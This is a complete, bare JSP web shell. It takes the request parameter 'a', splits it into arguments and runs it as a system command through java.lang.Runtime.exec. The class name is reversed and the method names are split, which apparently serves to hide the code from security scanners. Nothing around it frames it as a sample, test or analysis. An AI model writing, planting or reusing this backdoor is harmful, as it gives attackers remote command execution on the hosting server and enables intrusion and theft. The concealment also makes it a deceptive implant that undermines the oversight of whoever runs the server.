<%@ page import="java.lang.reflect.Method" %>
<%
String[] argv = request.getParameter("a").split(" ");
Class<?> k = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString());
Method get = k.getMethod("get" + "Runtime");
Method run = k.getMethod("ex" + "ec", String[].class);
Process pr = (Process) run.invoke(get.invoke(null), (Object) argv);
%>
